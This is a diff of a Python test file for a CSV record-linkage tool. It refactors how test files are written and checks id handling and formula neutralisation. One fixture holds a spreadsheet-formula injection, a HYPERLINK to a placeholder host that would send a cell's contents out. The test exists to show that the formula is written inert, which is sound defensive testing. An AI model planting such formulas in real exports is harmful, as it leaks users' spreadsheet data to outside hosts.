@@ -26,6 +26,14 @@ def _link(*args: str) -> tuple[int, str, str]:
     return result.exit_code, result.stdout, result.stderr
 
 
+def _files(folder: Path, left: str, right: str) -> tuple[Path, Path]:
+    """left.csv and right.csv in ``folder``, holding ``left`` and ``right``."""
+    paths = folder / "left.csv", folder / "right.csv"
+    for path, text in zip(paths, (left, right), strict=True):
+        path.write_text(text, encoding="utf-8")
+    return paths
+
+
 def _pairs(stdout: str) -> list[tuple[str, str]]:
     return [(r["left_id"], r["right_id"]) for r in csv.DictReader(io.StringIO(stdout))]
 
@@ -34,11 +42,10 @@ def test_a_repeated_header_is_read_from_its_first_column(tmp_path: Path) -> None
     """Two columns named ``name`` (the debtor, then a co-signer): the columns line said
     full_name=name, and the co-signer's values were compared: Jane Roe linked, high, to John
     Smith. The first column is read, as enrich reads it."""
-    left = tmp_path / "left.csv"
-    left.write_text("id,name,address,zip,name\nA1,Jane Roe,9 Elm St,62701,John Smith\n")
-    right = tmp_path / "right.csv"
-    right.write_text("id,name,address,zip\nR1,Jane Roe,9 Elm St,62701\n"
-                     "R2,John Smith,9 Elm St,62701\n")  # fmt: skip
+    left, right = _files(tmp_path,
+                         "id,name,address,zip,name\nA1,Jane Roe,9 Elm St,62701,John Smith\n",
+                         "id,name,address,zip\nR1,Jane Roe,9 Elm St,62701\n"
+                         "R2,John Smith,9 Elm St,62701\n")  # fmt: skip
     code, out, _ = _link(str(left), str(right))
     assert code == 0 and _pairs(out) == [("A1", "R1")], out
 
@@ -88,11 +95,11 @@ def test_a_failed_write_leaves_no_partial_file(
 
 
 def test_repeated_and_blank_ids_are_said(tmp_path: Path) -> None:
-    left = tmp_path / "left.csv"
-    left.write_text("id,name,zip\nA1,Jane Roe,62701\nA1,John Smith,62701\n,Bob Quinlan,62701\n")
-    right = tmp_path / "right.csv"
-    right.write_text("id,name,zip\nR1,Jane Roe,62701\nR2,John Smith,62701\n"
-                     "R3,Bob Quinlan,62701\n")  # fmt: skip
+    left, right = _files(tmp_path,
+                         "id,name,zip\nA1,Jane Roe,62701\nA1,John Smith,62701\n"
+                         ",Bob Quinlan,62701\n",
+                         "id,name,zip\nR1,Jane Roe,62701\nR2,John Smith,62701\n"
+                         "R3,Bob Quinlan,62701\n")  # fmt: skip
     code, out, err = _link(str(left), str(right))
     assert code == 0 and {("", "R3"), ("A1", "R1")} <= set(_pairs(out)), out
     assert f"{left}: 2 records share an id with another, 1 has none: their links" in err, err
@@ -110,10 +117,11 @@ def test_ids_that_are_one_once_neutralised_are_said_to_be_shared(tmp_path: Path)
 def test_a_registry_id_is_written_neutralised(tmp_path: Path) -> None:
     """A bulk registry is a third party's text: its ids are written as the found_ columns
     are, a formula made inert."""
-    left = tmp_path / "left.csv"
-    left.write_text("id,name,zip\nA1,Jane Roe,62701\n")
-    right = tmp_path / "right.csv"
-    right.write_text('ref,name,zip\n"=HYPERLINK(""http://x.example/?""&A2)",Jane Roe,62701\n')
+    left, right = _files(
+        tmp_path,
+        "id,name,zip\nA1,Jane Roe,62701\n",
+        'ref,name,zip\n"=HYPERLINK(""http://x.example/?""&A2)",Jane Roe,62701\n',
+    )
     code, out, _ = _link(str(left), str(right))
     assert code == 0 and _pairs(out) == [("A1", '\'=HYPERLINK("http://x.example/?"&A2)')]
 
